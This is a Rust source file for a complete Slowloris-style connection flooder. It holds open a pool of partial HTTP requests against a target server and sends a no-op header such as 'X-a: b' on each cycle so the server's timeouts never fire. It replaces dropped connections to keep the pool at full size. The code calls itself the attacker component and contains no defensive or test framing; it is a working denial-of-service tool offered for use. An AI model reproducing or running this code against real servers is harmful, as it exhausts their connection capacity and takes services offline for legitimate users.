// ============================================================================
// CONNECTION FLOODER
// ============================================================================
// Sustains a pool of partially-complete HTTP connections against a target.
//
// Each connection sends a bare request line and then never terminates the
// header section, so the peer server sits waiting for headers that will not
// arrive. A periodic no-op header fragment keeps the server's read timeout
// from firing. The pool survives individual connection failures: a dead
// member is closed and replaced within the same maintenance cycle, so the
// configured pool size is actively restored, not merely observed.
//
// === TIMEOUT DISCIPLINE ===
// Every socket operation (connect, read, write) carries a bounded timeout.
// An unbounded operation here is a correctness bug: one hung peer would
// stall the entire maintenance loop and defeat the flooder's own purpose.

use std::io::Write;
use std::net::{SocketAddr, TcpStream, ToSocketAddrs};
use std::sync::atomic::{AtomicBool, Ordering as AtomicOrdering};
use std::sync::mpsc;
use std::thread;
use std::time::Duration;
use threadpool::ThreadPool;

// ============================================================================
// CONSTANTS
// ============================================================================

/// The intentionally incomplete HTTP request sent on every new connection.
///
/// Request line only, terminated by a single CRLF. The blank line that
/// would end the header section is withheld, so the server keeps the
/// connection occupied waiting for it.
pub const PARTIAL_REQUEST: &[u8] = b"GET / HTTP/1.1\r\n";

/// The no-op header fragment sent each maintenance cycle.
///
/// Syntactically a valid header line, functionally inert. Its only job is
/// to look like request progress so server-side idle timeouts never fire.
pub const KEEP_ALIVE_FRAGMENT: &[u8] = b"X-a: b\r\n";

/// Bound on every connect/read/write against the target.
pub const SOCKET_TIMEOUT: Duration = Duration::from_secs(4);

/// How often the shutdown flag is rechecked while pacing between cycles.
const SHUTDOWN_POLL_INTERVAL: Duration = Duration::from_millis(250);

pub const DEFAULT_TARGET_PORT: u16 = 80;
pub const DEFAULT_POOL_SIZE: usize = 150;
pub const DEFAULT_KEEP_ALIVE_INTERVAL_SECS: u64 = 15;

// ============================================================================
// CONFIGURATION
// ============================================================================

/// Startup-fixed flooder configuration.
#[derive(Debug, Clone)]
pub struct FlooderConfig {
    pub host: String,
    pub port: u16,
    pub pool_size: usize,
    pub interval_secs: u64,
}

impl FlooderConfig {
    /// Reject invalid configuration before any connection activity begins.
    pub fn validate(&self) -> Result<(), String> {
        if self.host.is_empty() {
            return Err("Target host must not be empty".to_owned());
        }
        if self.port == 0 {
            return Err("Target port must be non-zero".to_owned());
        }
        if self.pool_size == 0 {
            return Err("Socket pool size must be at least 1".to_owned());
        }
        if self.interval_secs == 0 {
            return Err("Keep-alive interval must be at least 1 second".to_owned());
        }
        Ok(())
    }

    /// Resolve host:port to a concrete socket address.
    ///
    /// An unresolvable target is a configuration error, fatal at startup.
    /// It is distinct from a resolvable-but-unreachable target, which only
    /// shrinks the pool.
    pub fn resolve(&self) -> Result<SocketAddr, String> {
        (self.host.as_str(), self.port)
            .to_socket_addrs()
            .map_err(|e| format!("Cannot resolve {}:{}: {e}", self.host, self.port))?
            .next()
            .ok_or_else(|| format!("No addresses found for {}:{}", self.host, self.port))
    }
}

// ============================================================================
// MANAGED CONNECTION
// ============================================================================

/// One live pool member.
///
/// There is no explicit state field: a member is alive exactly until an I/O
/// attempt on it fails, at which point it is dropped (closing the socket)
/// and replaced. RAII guarantees every opened socket is closed on member
/// replacement or process exit.
pub(crate) struct ManagedConnection {
    pub(crate) stream: TcpStream,
}

impl ManagedConnection {
    /// Open a connection and send the partial request line.
    ///
    /// Connect is bounded by `SOCKET_TIMEOUT`, and the stream is configured
    /// with matching read/write timeouts before any byte is sent.
    fn open(addr: SocketAddr) -> Result<Self, String> {
        let stream = TcpStream::connect_timeout(&addr, SOCKET_TIMEOUT)
            .map_err(|e| format!("Connect to {addr} failed: {e}"))?;
        stream
            .set_write_timeout(Some(SOCKET_TIMEOUT))
            .map_err(|e| format!("Cannot set write timeout: {e}"))?;
        stream
            .set_read_timeout(Some(SOCKET_TIMEOUT))
            .map_err(|e| format!("Cannot set read timeout: {e}"))?;

        let mut conn = ManagedConnection { stream };
        conn.send(PARTIAL_REQUEST)?;
        Ok(conn)
    }

    /// Send the periodic no-op header fragment.
    fn keep_alive(&mut self) -> Result<(), String> {
        self.send(KEEP_ALIVE_FRAGMENT)
    }

    fn send(&mut self, bytes: &[u8]) -> Result<(), String> {
        self.stream
            .write_all(bytes)
            .map_err(|e| format!("Send failed: {e}"))
    }
}

// ============================================================================
// FLOODER
// ============================================================================

/// The attacker component: owns the pool and the maintenance loop.
pub struct Flooder {
    addr: SocketAddr,
    target_size: usize,
    interval: Duration,
    pool: Vec<ManagedConnection>,
    workers: ThreadPool,
}

impl Flooder {
    /// Build a flooder from validated configuration.
    pub fn new(config: &FlooderConfig) -> Result<Self, String> {
        config.validate()?;
        let addr = config.resolve()?;

        // Keep-alive sends are I/O-bound, so more workers than cores pays off
        let cpu_count = thread::available_parallelism()
            .map(std::num::NonZero::get)
            .unwrap_or(4);
        let thread_count = (cpu_count * 2).clamp(4, 16);

        Ok(Flooder {
            addr,
            target_size: config.pool_size,
            interval: Duration::from_secs(config.interval_secs),
            pool: Vec::with_capacity(config.pool_size),
            workers: ThreadPool::new(thread_count),
        })
    }

    /// Current pool membership count.
    #[must_use]
    pub fn pool_size(&self) -> usize {
        self.pool.len()
    }

    #[cfg(test)]
    pub(crate) fn members_mut(&mut self) -> &mut Vec<ManagedConnection> {
        &mut self.pool
    }

    /// Open the initial pool.
    ///
    /// Opens are sequential and failures are skipped without retry: a target
    /// that refuses or rate-limits a connection burst simply yields a smaller
    /// pool. Partial success is the expected steady state under contention;
    /// no outcome here is fatal.
    pub fn initialize(&mut self) {
        println!(
            "[+] Attacking {} with {} sockets",
            self.addr, self.target_size
        );

        for i in 0..self.target_size {
            match ManagedConnection::open(self.addr) {
                Ok(conn) => self.pool.push(conn),
                Err(e) => eprintln!("Failed to create socket {i}: {e}"),
            }
        }

        println!(
            "[+] Pool initialized: {}/{} sockets open",
            self.pool.len(),
            self.target_size
        );
    }

    /// Run one maintenance cycle: keep-alive every member, replace the dead.
    ///
    /// === PARALLELISM ===
    /// Members are drained onto the worker pool so one slow peer cannot
    /// delay the rest; each send is already bounded by `SOCKET_TIMEOUT`.
    /// Membership is rebuilt only here on the control loop, from the
    /// workers' reports. The pool is never mutated concurrently, so a
    /// closed handle can never be operated on.
    ///
    /// A member whose send fails is dropped (closing its socket) and one
    /// replacement open is attempted immediately. Replacement failure is
    /// tolerated; a final top-up pass restores the pool toward its target
    /// size whenever the target is accepting connections again.
    pub fn maintenance_cycle(&mut self) {
        let (tx, rx) = mpsc::channel();
        let addr = self.addr;

        for mut conn in self.pool.drain(..) {
            let tx = tx.clone();
            self.workers.execute(move || {
                let survivor = match conn.keep_alive() {
                    Ok(()) => Some(conn),
                    Err(e) => {
                        eprintln!("Dead socket ({e}), opening replacement");
                        drop(conn);
                        match ManagedConnection::open(addr) {
                            Ok(fresh) => Some(fresh),
                            Err(open_err) => {
                                eprintln!("Replacement failed: {open_err}");
                                None
                            }
                        }
                    }
                };
                // The receiver only hangs up if the flooder itself is gone
                let _ = tx.send(survivor);
            });
        }

        // Drop the control loop's sender so the iterator below terminates
        // once every worker has reported
        drop(tx);
        self.pool = rx.iter().flatten().collect();

        // Top-up: restore pool size after replacement failures in earlier
        // cycles. First failed open ends the pass; an unreachable target
        // would otherwise absorb (target - size) doomed connects per cycle.
        while self.pool.len() < self.target_size {
            match ManagedConnection::open(self.addr) {
                Ok(conn) => self.pool.push(conn),
                Err(e) => {
                    eprintln!("Pool below target ({}): {e}", self.pool.len());
                    break;
                }
            }
        }
    }

    /// Maintain the pool until the shutdown flag clears.
    ///
    /// The pacing sleep is taken in short slices so ctrl-c is honored
    /// promptly instead of after a full interval.
    pub fn run(&mut self, running: &AtomicBool) {
        while running.load(AtomicOrdering::SeqCst) {
            println!(
                "[+] Sending keep-alive headers... Socket count: {}",
                self.pool.len()
            );
            self.maintenance_cycle();

            let mut remaining = self.interval;
            while remaining > Duration::ZERO && running.load(AtomicOrdering::SeqCst) {
                let slice = remaining.min(SHUTDOWN_POLL_INTERVAL);
                thread::sleep(slice);
                remaining = remaining.saturating_sub(slice);
            }
        }

        println!("[+] Shutting down, closing {} sockets", self.pool.len());
        // Dropping the members closes every socket
        self.pool.clear();
    }
}
